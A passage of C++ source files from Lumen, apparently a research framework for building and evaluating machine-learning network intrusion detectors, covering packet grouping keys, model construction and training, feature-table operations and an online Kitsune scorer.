             netio::ipv4_to_string(v.dst_ip) + ":" +
             std::to_string(v.dst_port) + "/" + std::to_string(v.proto_raw);
    }};
  if (key == "srcmac")
    return {[](const PacketView& v) { return mac_str(v.src_mac); }};
  if (key == "dstport")
    return {[](const PacketView& v) { return std::to_string(v.dst_port); }};
  if (key == "proto")
    return {[](const PacketView& v) { return std::to_string(v.proto_raw); }};
  return Error::make("groupby", "unknown group key '" + key_in + "'");
}

Result<std::function<Key128(const netio::PacketView&)>> make_packed_group_key(
    const std::string& key_in) {
  const std::string key = lower(key_in);
  using netio::PacketView;
  if (key == "srcip")
    return {[](const PacketView& v) { return Key128{0, v.src_ip}; }};
  if (key == "dstip")
    return {[](const PacketView& v) { return Key128{0, v.dst_ip}; }};
  if (key == "srcdst" || key == "channel")
    return {[](const PacketView& v) { return Key128{v.src_ip, v.dst_ip}; }};
  if (key == "socket")
    return {[](const PacketView& v) {
      return Key128{(static_cast<uint64_t>(v.src_ip) << 32) | v.dst_ip,
                    (static_cast<uint64_t>(v.src_port) << 32) |
                        (static_cast<uint64_t>(v.dst_port) << 16) |
                        v.proto_raw};
    }};
  if (key == "srcmac")
    return {[](const PacketView& v) {
      uint64_t mac = 0;
      for (int i = 0; i < 6; ++i) mac = (mac << 8) | v.src_mac[i];
      return Key128{0, mac};
    }};
  if (key == "dstport")
    return {[](const PacketView& v) { return Key128{0, v.dst_port}; }};
  if (key == "proto")
    return {[](const PacketView& v) { return Key128{0, v.proto_raw}; }};
  return Error::make("groupby", "unknown group key '" + key_in + "'");
}

// Registrars defined by the ops_*.cpp translation units.
void register_packet_ops();
void register_flow_ops();
void register_table_ops();
void register_model_ops();
void register_io_ops();

void register_builtin_operations() {
  static std::once_flag once;
  std::call_once(once, [] {
    register_packet_ops();
    register_flow_ops();
    register_table_ops();
    register_model_ops();
    register_io_ops();
  });
}

}  // namespace lumen::core
