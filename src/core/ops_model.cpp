// Model-related operations: "model" (construction), "train", "predict",
// "evaluate" — plus the model factory and the Nyström composites.
#include "core/models.h"

#include "core/ops_common.h"
#include "ml/automl.h"
#include "ml/bayes.h"
#include "ml/compiled.h"
#include "ml/ensemble.h"
#include "ml/forest.h"
#include "ml/gmm.h"
#include "ml/kitnet.h"
#include "ml/knn.h"
#include "ml/linear.h"
#include "ml/metrics.h"
#include "ml/mlp.h"
#include "ml/tree.h"

namespace lumen::core {

NystromComposite::NystromComposite(Inner inner, ml::NystromMap::Config cfg)
    : inner_kind_(inner), map_(cfg) {
  if (inner == Inner::kGmm) {
    ml::Gmm::Config gc;
    gc.components = 4;
    inner_ = std::make_shared<ml::Gmm>(gc);
  } else {
    inner_ = std::make_shared<ml::LinearOneClassSvm>();
  }
}

void NystromComposite::fit(const ml::FeatureTable& X) {
  // Fit the kernel map on benign rows only (it is part of the detector).
  const std::vector<size_t> benign = ml::benign_rows(X);
  map_.fit(X.select_rows(benign));
  inner_->fit(map_.transform(X));
}

std::vector<double> NystromComposite::score(const ml::FeatureTable& X) const {
  return inner_->score(map_.transform(X));
}

std::vector<int> NystromComposite::predict(const ml::FeatureTable& X) const {
  return inner_->predict(map_.transform(X));
}

std::string NystromComposite::name() const {
  return inner_kind_ == Inner::kGmm ? "Nystrom+GMM" : "Nystrom+OCSVM";
}

namespace {

ml::ModelPtr make_by_type(const std::string& type, const Json& params) {
  if (type == "RandomForest") {
    ml::ForestConfig cfg;
    cfg.n_trees = static_cast<size_t>(params.get_int("n_trees", 20));
    cfg.max_depth = static_cast<int>(params.get_int("max_depth", 12));
    return std::make_shared<ml::RandomForest>(cfg);
  }
  if (type == "DecisionTree") {
    ml::TreeConfig cfg;
    cfg.max_depth = static_cast<int>(params.get_int("max_depth", 12));
    return std::make_shared<ml::DecisionTree>(cfg);
  }
  if (type == "GaussianNB") return std::make_shared<ml::GaussianNB>();
  if (type == "KNN") {
    ml::KnnConfig cfg;
    cfg.k = static_cast<size_t>(params.get_int("k", 5));
    return std::make_shared<ml::Knn>(cfg);
  }
  if (type == "LinearSVM") return std::make_shared<ml::LinearSvm>();
  if (type == "LogisticRegression") {
    return std::make_shared<ml::LogisticRegression>();
  }
  if (type == "MLP") {
    ml::MlpConfig cfg;
    const std::vector<double> h = params.get_number_list("hidden");
    if (!h.empty()) {
      cfg.hidden.clear();
      for (double d : h) cfg.hidden.push_back(static_cast<size_t>(d));
    }
    cfg.epochs = static_cast<size_t>(params.get_int("epochs", 30));
    cfg.batch = static_cast<size_t>(params.get_int("batch", 32));
    return std::make_shared<ml::Mlp>(cfg);
  }
  if (type == "AutoML") return std::make_shared<ml::AutoMl>();
  if (type == "OCSVM") {
    ml::OneClassSvm::Config cfg;
    cfg.nu = params.get_number("nu", 0.05);
    return std::make_shared<ml::OneClassSvm>(cfg);
  }
  if (type == "LinearOCSVM") return std::make_shared<ml::LinearOneClassSvm>();
  if (type == "NystromGMM" || type == "NystromOCSVM") {
    ml::NystromMap::Config cfg;
    cfg.n_landmarks = static_cast<size_t>(params.get_int("landmarks", 48));
    return std::make_shared<NystromComposite>(
        type == "NystromGMM" ? NystromComposite::Inner::kGmm
                             : NystromComposite::Inner::kLinearOcsvm,
        cfg);
  }
  if (type == "GMM") {
    ml::Gmm::Config cfg;
    cfg.components = static_cast<size_t>(params.get_int("components", 4));
    return std::make_shared<ml::Gmm>(cfg);
  }
  if (type == "AutoEncoder") {
    ml::AutoEncoderConfig cfg;
    cfg.epochs = static_cast<size_t>(params.get_int("epochs", 4));
    cfg.quantile = params.get_number("quantile", 0.97);
    return std::make_shared<ml::AutoEncoderDetector>(cfg);
  }
  if (type == "KitNET") {
    ml::KitNet::Config cfg;
    cfg.max_cluster_size =
        static_cast<size_t>(params.get_int("max_cluster_size", 10));
    cfg.quantile = params.get_number("quantile", 0.97);
    return std::make_shared<ml::KitNet>(cfg);
  }
  return nullptr;
}

}  // namespace

Result<ModelValue> make_model(const Json& params) {
  const std::string type = params.get_string("model_type");
  if (type.empty()) return Error::make("model", "missing 'model_type'");

  ModelValue mv;
  mv.normalize = params.get_bool("normalize", false);
  mv.decorrelate = params.get_bool("decorrelate", false);

  if (type == "Ensemble") {
    std::vector<ml::ModelPtr> members;
    for (const std::string& m : params.get_string_list("members")) {
      ml::ModelPtr mp = make_by_type(m, params);
      if (!mp) return Error::make("model", "unknown ensemble member '" + m + "'");
      members.push_back(std::move(mp));
    }
    if (members.empty()) {
      return Error::make("model", "Ensemble requires 'members'");
    }
    mv.model = std::make_shared<ml::VotingEnsemble>(std::move(members));
    return mv;
  }

  mv.model = make_by_type(type, params);
  if (!mv.model) return Error::make("model", "unknown model_type '" + type + "'");
  return mv;
}

namespace {

using features::FeatureTable;

Result<Value> run_model(const OpSpec& spec,
                        const std::vector<const Value*>& in, OpContext& ctx) {
  Result<ModelValue> mv = make_model(spec.params);
  if (!mv.ok()) return mv.error();
  return Value(std::move(mv).value());
}

/// Fit train-side transforms, then the model. Emits the trained ModelValue.
Result<Value> run_train(const OpSpec& spec,
                        const std::vector<const Value*>& in, OpContext& ctx) {
  auto mr = input_as<ModelValue>(in, 0, "train");
  if (!mr.ok()) return mr.error();
  auto tr = input_as<FeatureTable>(in, 1, "train");
  if (!tr.ok()) return tr.error();

  ModelValue mv = *mr.value();
  FeatureTable X = *tr.value();
  features::impute_non_finite(X);
  if (mv.decorrelate) {
    mv.corr_filter = std::make_shared<features::CorrelationFilter>();
    mv.corr_filter->fit(X);
    X = mv.corr_filter->apply(X);
  }
  if (mv.normalize) {
    mv.normalizer = std::make_shared<features::Normalizer>();
    mv.normalizer->fit(X);
    mv.normalizer->apply(X);
  }
  mv.model->fit(X);
  return Value(std::move(mv));
}

Result<Value> run_predict(const OpSpec& spec,
                          const std::vector<const Value*>& in,
                          OpContext& ctx) {
  auto mr = input_as<ModelValue>(in, 0, "predict");
  if (!mr.ok()) return mr.error();
  auto tr = input_as<FeatureTable>(in, 1, "predict");
  if (!tr.ok()) return tr.error();

  const ModelValue& mv = *mr.value();
  if (!mv.model) return Error::make("predict", "model was never constructed");
  FeatureTable X = *tr.value();
  features::impute_non_finite(X);
  if (mv.corr_filter) X = mv.corr_filter->apply(X);
  if (mv.normalizer) mv.normalizer->apply(X);

  Predictions p;
  p.y_true = X.labels;
  // Score through a compiled f64 plan when the model has one — bit-identical
  // to the reference score() (the plan replays the same kernels in the same
  // order), one weight-marshalling pass cheaper. Fall back otherwise.
  ml::ModelPtr scorer = mv.model;
  if (auto plan = ml::compiled::compile(*mv.model); plan.ok()) {
    scorer = ml::compiled::wrap(std::move(plan).value(), mv.model->name());
  }
  p.scores = scorer->score(X);
  if (const auto* kit = dynamic_cast<const ml::KitNet*>(mv.model.get())) {
    // KitNet::predict == threshold_predict(score(X), threshold()); reuse
    // the scores instead of paying a second full scoring pass.
    p.y_pred = ml::threshold_predict(p.scores, kit->threshold());
  } else {
    p.y_pred = mv.model->predict(X);
  }
  p.attack = X.attack;
  return Value(std::move(p));
}

Result<Value> run_evaluate(const OpSpec& spec,
                           const std::vector<const Value*>& in,
                           OpContext& ctx) {
  auto pr = input_as<Predictions>(in, 0, "evaluate");
  if (!pr.ok()) return pr.error();
  const Predictions& p = *pr.value();
  const ml::Confusion c = ml::confusion(p.y_true, p.y_pred);
  Metrics m;
  m.values = {
      {"precision", ml::precision(c)},
      {"recall", ml::recall(c)},
      {"f1", ml::f1(c)},
      {"accuracy", ml::accuracy(c)},
      {"auc", ml::auc(p.y_true, p.scores)},
      {"tp", static_cast<double>(c.tp)},
      {"fp", static_cast<double>(c.fp)},
      {"tn", static_cast<double>(c.tn)},
      {"fn", static_cast<double>(c.fn)},
  };
  return Value(std::move(m));
}

}  // namespace

void register_model_ops() {
  register_simple("model", {}, ValueKind::kModel, run_model);
  register_simple("train", {ValueKind::kModel, ValueKind::kFeatureTable},
                  ValueKind::kModel, run_train);
  register_simple("predict", {ValueKind::kModel, ValueKind::kFeatureTable},
                  ValueKind::kPredictions, run_predict);
  register_simple("evaluate", {ValueKind::kPredictions}, ValueKind::kMetrics,
                  run_evaluate);
}

}  // namespace lumen::core
