// Model construction from template parameters ("model" operation), plus the
// Nyström composite detectors from the Efficient-OCSVM paper.
#pragma once

#include "core/op.h"
#include "ml/kernel.h"

namespace lumen::core {

/// Build an untrained model from a "model" op's parameters:
///   model_type: RandomForest | DecisionTree | GaussianNB | KNN | LinearSVM |
///               LogisticRegression | MLP | AutoML | Ensemble | OCSVM |
///               LinearOCSVM | NystromGMM | NystromOCSVM | GMM |
///               AutoEncoder | KitNET
///   normalize / decorrelate: bool — train-fitted transforms applied by the
///               evaluation protocol (and the train/predict ops).
///   members:    for Ensemble, a list of model_type strings.
/// Unknown types produce an Error naming the offender.
Result<ModelValue> make_model(const Json& params);

/// Nyström feature map feeding an inner anomaly detector (GMM or linear
/// one-class SVM). The map is fitted on the benign training rows.
class NystromComposite : public ml::Model {
 public:
  enum class Inner { kGmm, kLinearOcsvm };

  NystromComposite(Inner inner, ml::NystromMap::Config cfg);

  void fit(const ml::FeatureTable& X) override;
  std::vector<double> score(const ml::FeatureTable& X) const override;
  std::vector<int> predict(const ml::FeatureTable& X) const override;
  std::string name() const override;
  bool is_supervised() const override { return false; }

 private:
  Inner inner_kind_;
  ml::NystromMap map_;
  ml::ModelPtr inner_;
};

}  // namespace lumen::core
