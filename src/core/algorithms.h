// The algorithm registry: every surveyed algorithm (Table 2 of the paper),
// expressed as a Lumen feature-pipeline template plus a model specification.
// This is the paper's central demonstration — 16 heterogeneous IDS
// algorithms rebuilt from ~30 shared operations.
#pragma once

#include "core/engine.h"
#include "trace/dataset.h"

namespace lumen::core {

struct AlgorithmDef {
  std::string id;      // "A06"
  std::string label;   // "Kitsune"
  std::string paper;   // short citation
  trace::Granularity granularity;
  bool needs_ip = true;            // false only for Kitsune (size/time/MAC)
  bool needs_app_metadata = false; // true only for the smart-home PDML IDS
  std::string feature_template;    // pipeline producing binding "Features"
  std::string model_spec;          // JSON for the "model" operation
};

/// All algorithm definitions, A00..A15 then AM01..AM03.
const std::vector<AlgorithmDef>& algorithm_registry();

/// Lookup by id; nullptr when unknown.
const AlgorithmDef* find_algorithm(const std::string& id);

/// Ids of the 16 surveyed algorithms (excludes AM variants).
std::vector<std::string> surveyed_algorithm_ids();

/// Ids of the Lumen-synthesized variants (AM01..).
std::vector<std::string> synthesized_algorithm_ids();

/// True when `algo` can be *faithfully* trained/tested on `ds` per §2.1:
/// the algorithm's granularity must be at least as fine as the dataset's
/// label granularity, and the dataset must carry the packet layers the
/// algorithm's features require.
bool compatible(const AlgorithmDef& algo, const trace::Dataset& ds);

/// The stricter pairing used by the paper's evaluation figures: packet
/// algorithms on packet datasets, flow/connection algorithms on
/// connection datasets (plus the compatible() requirements).
bool strict_faithful(const AlgorithmDef& algo, const trace::Dataset& ds);

/// Run the algorithm's feature pipeline on a dataset; returns the
/// "Features" table. The engine type-checks the template first.
Result<features::FeatureTable> compute_features(const AlgorithmDef& algo,
                                                const trace::Dataset& ds);

/// Construct the algorithm's (untrained) model.
Result<ModelValue> make_algorithm_model(const AlgorithmDef& algo);

}  // namespace lumen::core
