// FeatureTable-level operations: normalization, correlated-feature removal,
// column selection, imputation, sampling, time-based splits, table merging
// and column concatenation, one-hot expansion.
#include <algorithm>
#include <numeric>
#include <set>

#include "core/ops_common.h"
#include "features/transform.h"

namespace lumen::core {

namespace {

using features::FeatureTable;

Result<Value> run_normalize(const OpSpec& spec,
                            const std::vector<const Value*>& in,
                            OpContext& ctx) {
  auto tr = input_as<FeatureTable>(in, 0, "normalize");
  if (!tr.ok()) return tr.error();
  FeatureTable t = *tr.value();
  const std::string kind = spec.params.get_string("kind", "minmax");
  features::Normalizer norm(kind == "zscore" ? features::NormKind::kZScore
                                             : features::NormKind::kMinMax);
  norm.fit(t);
  norm.apply(t);
  return Value(std::move(t));
}

Result<Value> run_remove_correlated(const OpSpec& spec,
                                    const std::vector<const Value*>& in,
                                    OpContext& ctx) {
  auto tr = input_as<FeatureTable>(in, 0, "remove_correlated");
  if (!tr.ok()) return tr.error();
  const double threshold = spec.params.get_number("threshold", 0.98);
  features::CorrelationFilter filt(threshold);
  filt.fit(*tr.value());
  return Value(filt.apply(*tr.value()));
}

Result<Value> run_select_columns(const OpSpec& spec,
                                 const std::vector<const Value*>& in,
                                 OpContext& ctx) {
  auto tr = input_as<FeatureTable>(in, 0, "select_columns");
  if (!tr.ok()) return tr.error();
  const FeatureTable& t = *tr.value();
  const std::vector<std::string> wanted = spec.params.get_string_list("columns");
  const std::vector<std::string> prefixes = spec.params.get_string_list("prefixes");
  std::vector<uint8_t> keep(t.cols, 0);
  for (size_t c = 0; c < t.cols; ++c) {
    const std::string& name = t.col_names[c];
    for (const std::string& w : wanted) {
      if (name == w) keep[c] = 1;
    }
    for (const std::string& p : prefixes) {
      if (name.rfind(p, 0) == 0) keep[c] = 1;
    }
  }
  return Value(t.select_cols(keep));
}

Result<Value> run_drop_columns(const OpSpec& spec,
                               const std::vector<const Value*>& in,
                               OpContext& ctx) {
  auto tr = input_as<FeatureTable>(in, 0, "drop_columns");
  if (!tr.ok()) return tr.error();
  const FeatureTable& t = *tr.value();
  const std::vector<std::string> drop = spec.params.get_string_list("columns");
  const std::set<std::string> dropset(drop.begin(), drop.end());
  std::vector<uint8_t> keep(t.cols, 1);
  for (size_t c = 0; c < t.cols; ++c) {
    if (dropset.count(t.col_names[c]) != 0) keep[c] = 0;
  }
  return Value(t.select_cols(keep));
}

Result<Value> run_impute(const OpSpec& spec,
                         const std::vector<const Value*>& in, OpContext& ctx) {
  auto tr = input_as<FeatureTable>(in, 0, "impute");
  if (!tr.ok()) return tr.error();
  FeatureTable t = *tr.value();
  features::impute_non_finite(t);
  return Value(std::move(t));
}

Result<Value> run_sample(const OpSpec& spec,
                         const std::vector<const Value*>& in, OpContext& ctx) {
  auto tr = input_as<FeatureTable>(in, 0, "sample");
  if (!tr.ok()) return tr.error();
  const FeatureTable& t = *tr.value();
  const double fraction = spec.params.get_number("fraction", 0.1);
  if (fraction <= 0.0 || fraction > 1.0) {
    return Error::make("sample", "fraction must be in (0, 1]");
  }
  std::vector<size_t> idx(t.rows);
  std::iota(idx.begin(), idx.end(), 0);
  Rng rng(static_cast<uint64_t>(spec.params.get_int("seed", 71)));
  rng.shuffle(idx);
  idx.resize(std::max<size_t>(1, static_cast<size_t>(
                                     fraction * static_cast<double>(t.rows))));
  std::sort(idx.begin(), idx.end());  // keep time order
  return Value(t.select_rows(idx));
}

// "split": deterministic time-ordered train/test split; param "take"
// selects which side this op emits, so a pipeline can branch on both.
Result<Value> run_split(const OpSpec& spec,
                        const std::vector<const Value*>& in, OpContext& ctx) {
  auto tr = input_as<FeatureTable>(in, 0, "split");
  if (!tr.ok()) return tr.error();
  const FeatureTable& t = *tr.value();
  const double train_frac = spec.params.get_number("train_fraction", 0.7);
  const std::string take = spec.params.get_string("take", "train");
  if (take != "train" && take != "test") {
    return Error::make("split", "'take' must be 'train' or 'test'");
  }
  std::vector<size_t> order(t.rows);
  std::iota(order.begin(), order.end(), 0);
  std::stable_sort(order.begin(), order.end(), [&](size_t a, size_t b) {
    return t.unit_time[a] < t.unit_time[b];
  });
  const size_t n_train =
      static_cast<size_t>(train_frac * static_cast<double>(t.rows));
  std::vector<size_t> pick;
  if (take == "train") {
    pick.assign(order.begin(), order.begin() + static_cast<std::ptrdiff_t>(n_train));
  } else {
    pick.assign(order.begin() + static_cast<std::ptrdiff_t>(n_train), order.end());
  }
  std::sort(pick.begin(), pick.end());
  return Value(t.select_rows(pick));
}

Result<Value> run_merge_tables(const OpSpec& spec,
                               const std::vector<const Value*>& in,
                               OpContext& ctx) {
  if (in.empty()) return Error::make("merge_tables", "needs >= 1 input");
  auto first = input_as<FeatureTable>(in, 0, "merge_tables");
  if (!first.ok()) return first.error();
  FeatureTable out = *first.value();
  for (size_t i = 1; i < in.size(); ++i) {
    auto next = input_as<FeatureTable>(in, i, "merge_tables");
    if (!next.ok()) return next.error();
    if (!out.append(*next.value())) {
      return Error::make("merge_tables",
                         "input #" + std::to_string(i) + " has mismatched columns");
    }
  }
  return Value(std::move(out));
}

// "concat_features": column-concatenate tables over the same units.
Result<Value> run_concat_features(const OpSpec& spec,
                                  const std::vector<const Value*>& in,
                                  OpContext& ctx) {
  if (in.size() < 2) return Error::make("concat_features", "needs >= 2 inputs");
  auto first = input_as<FeatureTable>(in, 0, "concat_features");
  if (!first.ok()) return first.error();
  FeatureTable out = *first.value();
  for (size_t i = 1; i < in.size(); ++i) {
    auto next = input_as<FeatureTable>(in, i, "concat_features");
    if (!next.ok()) return next.error();
    const FeatureTable& t = *next.value();
    if (t.rows != out.rows) {
      return Error::make("concat_features",
                         "row count mismatch between inputs (" +
                             std::to_string(out.rows) + " vs " +
                             std::to_string(t.rows) + ")");
    }
    if (t.unit_id != out.unit_id) {
      return Error::make("concat_features", "unit alignment mismatch");
    }
    // Grow columns.
    FeatureTable merged = FeatureTable::make(out.rows, [&] {
      std::vector<std::string> names = out.col_names;
      names.insert(names.end(), t.col_names.begin(), t.col_names.end());
      return names;
    }());
    for (size_t r = 0; r < out.rows; ++r) {
      for (size_t c = 0; c < out.cols; ++c) merged.at(r, c) = out.at(r, c);
      for (size_t c = 0; c < t.cols; ++c) {
        merged.at(r, out.cols + c) = t.at(r, c);
      }
    }
    merged.labels = out.labels;
    merged.unit_id = out.unit_id;
    merged.attack = out.attack;
    merged.unit_time = out.unit_time;
    out = std::move(merged);
  }
  return Value(std::move(out));
}

Result<Value> run_one_hot(const OpSpec& spec,
                          const std::vector<const Value*>& in, OpContext& ctx) {
  auto tr = input_as<FeatureTable>(in, 0, "one_hot");
  if (!tr.ok()) return tr.error();
  const FeatureTable& t = *tr.value();
  const std::string column = spec.params.get_string("column");
  std::vector<double> values = spec.params.get_number_list("values");
  size_t col = t.cols;
  for (size_t c = 0; c < t.cols; ++c) {
    if (t.col_names[c] == column) col = c;
  }
  if (col == t.cols) {
    return Error::make("one_hot", "no column named '" + column + "'");
  }
  if (values.empty()) {  // discover distinct values (small cardinality only)
    std::set<double> uniq;
    for (size_t r = 0; r < t.rows && uniq.size() <= 32; ++r) {
      uniq.insert(t.at(r, col));
    }
    if (uniq.size() > 32) {
      return Error::make("one_hot", "column cardinality too high");
    }
    values.assign(uniq.begin(), uniq.end());
  }

  std::vector<std::string> names;
  for (size_t c = 0; c < t.cols; ++c) {
    if (c != col) names.push_back(t.col_names[c]);
  }
  for (double v : values) {
    names.push_back(column + "=" + std::to_string(static_cast<long long>(v)));
  }
  FeatureTable out = FeatureTable::make(t.rows, names);
  for (size_t r = 0; r < t.rows; ++r) {
    size_t oc = 0;
    for (size_t c = 0; c < t.cols; ++c) {
      if (c != col) out.at(r, oc++) = t.at(r, c);
    }
    for (double v : values) {
      out.at(r, oc++) = t.at(r, col) == v ? 1.0 : 0.0;
    }
  }
  out.labels = t.labels;
  out.unit_id = t.unit_id;
  out.attack = t.attack;
  out.unit_time = t.unit_time;
  return Value(std::move(out));
}

}  // namespace

void register_table_ops() {
  register_simple("normalize", {ValueKind::kFeatureTable},
                  ValueKind::kFeatureTable, run_normalize);
  register_simple("remove_correlated", {ValueKind::kFeatureTable},
                  ValueKind::kFeatureTable, run_remove_correlated);
  register_simple("select_columns", {ValueKind::kFeatureTable},
                  ValueKind::kFeatureTable, run_select_columns);
  register_simple("drop_columns", {ValueKind::kFeatureTable},
                  ValueKind::kFeatureTable, run_drop_columns);
  register_simple("impute", {ValueKind::kFeatureTable},
                  ValueKind::kFeatureTable, run_impute);
  register_simple("sample", {ValueKind::kFeatureTable},
                  ValueKind::kFeatureTable, run_sample);
  register_simple("split", {ValueKind::kFeatureTable},
                  ValueKind::kFeatureTable, run_split);
  register_simple("merge_tables",
                  {ValueKind::kFeatureTable, ValueKind::kAny, ValueKind::kAny,
                   ValueKind::kAny, ValueKind::kAny, ValueKind::kAny,
                   ValueKind::kAny, ValueKind::kAny, ValueKind::kAny,
                   ValueKind::kAny},
                  ValueKind::kFeatureTable, run_merge_tables);
  register_simple("concat_features",
                  {ValueKind::kFeatureTable, ValueKind::kFeatureTable,
                   ValueKind::kAny, ValueKind::kAny},
                  ValueKind::kFeatureTable, run_concat_features);
  register_simple("one_hot", {ValueKind::kFeatureTable},
                  ValueKind::kFeatureTable, run_one_hot);
}

}  // namespace lumen::core
