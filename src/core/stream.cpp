#include "core/stream.h"

namespace lumen::core {

OnlineKitsune::OnlineKitsune(Options opts)
    : opts_(std::move(opts)), extractor_(opts_.lambdas, opts_.max_contexts) {
  ml::KitNet::Config cfg = opts_.kitnet;
  cfg.quantile = opts_.threshold_quantile;
  detector_ = ml::KitNet(cfg);
}

void OnlineKitsune::train(std::span<const netio::PacketView> packets) {
  // Extract the training prefix's features with the SAME extractor state
  // that will keep running at detection time — the statistics roll straight
  // from training into detection, as in the original system.
  features::FeatureTable table =
      features::FeatureTable::make(packets.size(), extractor_.feature_names());
  for (size_t r = 0; r < packets.size(); ++r) {
    extractor_.process(packets[r], row_);
    std::copy(row_.begin(), row_.end(),
              table.data.begin() + static_cast<std::ptrdiff_t>(r * table.cols));
    table.unit_time[r] = packets[r].ts;
  }
  // All training rows are treated as benign (the grace-period assumption).
  detector_.fit(table);
  threshold_ = detector_.threshold();
  trained_ = true;
}

Result<void> OnlineKitsune::compile(ml::compiled::Precision precision) {
  if (!trained_) {
    return Error::make("OnlineKitsune", "compile() requires a trained detector");
  }
  Result<ml::compiled::PlanPtr> plan =
      ml::compiled::compile_kitnet(detector_, {precision});
  if (!plan.ok()) return plan.error();
  plan_ = std::move(plan).value();
  return {};
}

double OnlineKitsune::score_packet(const netio::PacketView& v) {
  extractor_.process(v, row_);
  if (!trained_) return 0.0;
  // Score through the SAME fused packed-panel path score_packets uses, as a
  // one-row block. The per-row gemv path accumulates in a different order
  // and could differ from the fused path by ulps — enough for process() and
  // a micro-batched consumer to disagree on a threshold crossing for the
  // same packet. One code path, bit-identical scores at any batch size.
  double out = 0.0;
  if (plan_ != nullptr) {
    plan_->score_rows(row_.data(), 1, extractor_.dim(), &out, plan_scratch_);
    return out;
  }
  detector_.score_rows(row_.data(), 1, extractor_.dim(), &out, rows_scratch_);
  return out;
}

void OnlineKitsune::score_packets(std::span<const netio::PacketView> packets,
                                  double* out) {
  const size_t m = packets.size();
  if (m == 0) return;
  // Stage: extraction is inherently sequential (every packet mutates the
  // streaming statistics), so run it row by row into a contiguous block.
  // The staging stride rounds the feature width up to the dense-kernel
  // vector block (8 doubles = one cache line), so every staged row starts
  // cache-line aligned relative to the block base no matter the batch size
  // — mid-size batches used to land rows on odd 16-byte offsets and score
  // measurably slower than both neighbours in the batch-size sweep.
  // score_rows takes an explicit row stride, so scores are unchanged.
  const size_t dim = extractor_.dim();
  const size_t ld = (dim + 7) & ~size_t{7};
  rows_block_.resize(m * ld);
  for (size_t i = 0; i < m; ++i) {
    extractor_.process(packets[i], row_);
    std::copy(row_.begin(), row_.end(),
              rows_block_.begin() + static_cast<std::ptrdiff_t>(i * ld));
  }
  if (!trained_) {
    std::fill(out, out + m, 0.0);
    return;
  }
  // ...then score the whole block through the fused packed-panel path (or
  // the compiled plan when one is deployed — same micro-batch contract).
  if (plan_ != nullptr) {
    plan_->score_rows(rows_block_.data(), m, ld, out, plan_scratch_);
    return;
  }
  detector_.score_rows(rows_block_.data(), m, ld, out, rows_scratch_);
}

}  // namespace lumen::core
