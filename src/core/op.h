// Operation abstraction: the unit of composition in Lumen pipelines.
//
// An OpSpec is one entry of the user's template file ("func", "input",
// "output", plus operation-specific parameters). The OperationRegistry maps
// func names to factories; each Operation declares its input/output kinds so
// the engine can type-check pipelines before execution (§3.2).
#pragma once

#include <functional>
#include <memory>

#include "common/flat_map.h"
#include "common/rng.h"
#include "core/json.h"
#include "core/value.h"

namespace lumen::core {

/// One parsed template entry.
struct OpSpec {
  std::string func;
  std::vector<std::string> inputs;  // binding names consumed
  std::string output;               // binding name produced
  Json params;                      // the full template object
};

/// Execution context handed to every operation.
struct OpContext {
  const trace::Dataset* dataset = nullptr;
  Rng rng{12345};
  /// Datasets loaded mid-pipeline (e.g. by pcap_source) live here so that
  /// PacketSet values referencing them stay valid for the whole run.
  std::vector<std::shared_ptr<trace::Dataset>> owned_datasets;
};

class Operation {
 public:
  explicit Operation(OpSpec spec) : spec_(std::move(spec)) {}
  virtual ~Operation() = default;

  const OpSpec& spec() const { return spec_; }

  /// Expected input kinds (kAny entries accept anything).
  virtual std::vector<ValueKind> input_kinds() const = 0;
  virtual ValueKind output_kind() const = 0;

  virtual Result<Value> run(const std::vector<const Value*>& inputs,
                            OpContext& ctx) = 0;

 protected:
  OpSpec spec_;
};

using OperationPtr = std::unique_ptr<Operation>;
using OperationFactory = std::function<Result<OperationPtr>(OpSpec)>;

/// Global func-name -> factory registry.
class OperationRegistry {
 public:
  static OperationRegistry& instance();

  void register_op(const std::string& func, OperationFactory factory);
  Result<OperationPtr> create(OpSpec spec) const;
  std::vector<std::string> known_ops() const;
  bool knows(const std::string& func) const;

 private:
  std::map<std::string, OperationFactory> factories_;
};

/// Registers every built-in operation (idempotent; called by the engine).
void register_builtin_operations();

// ---- shared helpers used by several operations ----

/// Numeric packet field accessor ("len", "iat" excepted — iat is contextual).
/// Returns false when the field name is unknown.
bool packet_field(const netio::PacketView& v, const std::string& field,
                  double* out);

/// The list of field names packet_field understands.
const std::vector<std::string>& known_packet_fields();

/// Group-key extractor for groupby-style operations ("srcip", "dstip",
/// "srcdst", "channel", "socket", "srcmac").
Result<std::function<std::string(const netio::PacketView&)>> make_group_key(
    const std::string& key);

/// Packed-numeric counterpart of make_group_key for streaming group
/// directories: same key vocabulary, but each packet maps to a Key128
/// (injective per key kind — two packets pack equal iff their printable
/// keys are equal), so hot-path grouping is one FlatMap probe with no
/// string building.
Result<std::function<Key128(const netio::PacketView&)>> make_packed_group_key(
    const std::string& key);

}  // namespace lumen::core
