// Minimal JSON value + parser for Lumen's template-based pipeline language
// (Fig. 4 of the paper). The dialect is tolerant of the Python-ish style the
// paper's examples use: single-quoted strings, None, and trailing commas are
// accepted alongside standard JSON.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "common/result.h"

namespace lumen::core {

class Json {
 public:
  enum class Type { kNull, kBool, kNumber, kString, kArray, kObject };

  Json() = default;
  static Json null() { return Json(); }
  static Json boolean(bool b) {
    Json j;
    j.type_ = Type::kBool;
    j.bool_ = b;
    return j;
  }
  static Json number(double v) {
    Json j;
    j.type_ = Type::kNumber;
    j.num_ = v;
    return j;
  }
  static Json string(std::string s) {
    Json j;
    j.type_ = Type::kString;
    j.str_ = std::move(s);
    return j;
  }
  static Json array(std::vector<Json> items = {}) {
    Json j;
    j.type_ = Type::kArray;
    j.arr_ = std::move(items);
    return j;
  }
  static Json object() {
    Json j;
    j.type_ = Type::kObject;
    return j;
  }

  /// Parse `text`; position-annotated error on failure.
  static Result<Json> parse(std::string_view text);

  Type type() const { return type_; }
  bool is_null() const { return type_ == Type::kNull; }
  bool is_bool() const { return type_ == Type::kBool; }
  bool is_number() const { return type_ == Type::kNumber; }
  bool is_string() const { return type_ == Type::kString; }
  bool is_array() const { return type_ == Type::kArray; }
  bool is_object() const { return type_ == Type::kObject; }

  bool as_bool(bool fallback = false) const {
    return is_bool() ? bool_ : fallback;
  }
  double as_number(double fallback = 0.0) const {
    return is_number() ? num_ : fallback;
  }
  int64_t as_int(int64_t fallback = 0) const {
    return is_number() ? static_cast<int64_t>(num_) : fallback;
  }
  const std::string& as_string() const { return str_; }
  std::string as_string_or(const std::string& fallback) const {
    return is_string() ? str_ : fallback;
  }

  const std::vector<Json>& items() const { return arr_; }
  size_t size() const {
